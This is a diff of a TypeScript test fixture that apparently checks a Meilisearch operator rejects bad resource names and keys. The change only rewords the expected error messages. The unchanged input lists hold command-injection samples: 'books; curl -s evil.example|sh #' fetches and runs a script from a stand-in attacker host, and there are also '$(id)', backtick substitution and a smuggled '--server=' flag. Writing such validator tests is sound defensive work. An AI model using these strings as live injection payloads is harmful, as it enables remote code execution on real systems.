@@ -13,8 +13,8 @@ interface BadName {
 
 const names = ['Books', '-books', 'books-', 'a..b', 'a/b', 'a_b', 'a b', 'a\n', 'ä', '--server=https://evil.example', 'books; curl -s evil.example|sh #', '$(id)', 'a\u0085b']
 const keys = ['a/b', 'a=b', 'a b', 'a\n', '$(id)', '`id`', "a'b"]
-const says = (field: string, kind: string): string => `${field} is that of ${kind}: lower-case letters, digits, - and .`
-const keySays = 'key is one of the data: letters, digits, -, _ and .: write for example MEILI_MASTER_KEY'
+const says = (field: string, kind: string): string => `${field} must be the name of ${kind}: lower-case letters, digits, - and .`
+const keySays = 'key must be a key of its data: letters, digits, -, _ and .'
 
 const here = 'in this namespace'
 const term = (rule: string): string => `spec.managed.affinity.${rule}.namespaces.0`
@@ -63,5 +63,5 @@ export const badNames: readonly BadName[] = [
   ...instanceFields.flatMap(([member, named, which, field = 'name']) => bad(meiliInstances, [member, says(field, named), which], someNames(member))),
   ...snapshotFields.flatMap(([member, named, which, field = 'name']) => bad(meiliSnapshots, [member, says(field, named), which], someNames(member))),
   ...keyFields.flatMap(([member, which]) => bad(meiliInstances, [member, keySays, which], keys)),
-  ...labelFields.flatMap(([member, field, named, which]) => bad(meiliInstances, [member, `${field} is that of ${named}: lower-case letters, digits and -`, which], ['a.b', 'A', 'a;b'])),
+  ...labelFields.flatMap(([member, field, named, which]) => bad(meiliInstances, [member, `${field} must be the name of ${named}: lower-case letters, digits and -`, which], ['a.b', 'A', 'a;b'])),
 ]
